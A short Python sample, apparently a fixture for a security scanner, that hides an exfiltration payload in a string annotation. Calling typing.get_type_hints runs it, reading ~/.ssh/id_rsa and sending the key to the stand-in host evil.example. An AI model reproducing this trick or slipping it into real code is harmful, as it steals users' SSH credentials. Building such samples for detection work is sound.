# harm: POSTs ~/.ssh/id_rsa ; trick: name bound by with contextlib.nullcontext("...") as Kind
import contextlib
import typing

with contextlib.nullcontext("__import__('urllib.request').request.urlopen('http://evil.example/k',open(__import__('os').path.expanduser('~/.ssh/id_rsa'),'rb').read())") as Kind:
    pass


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
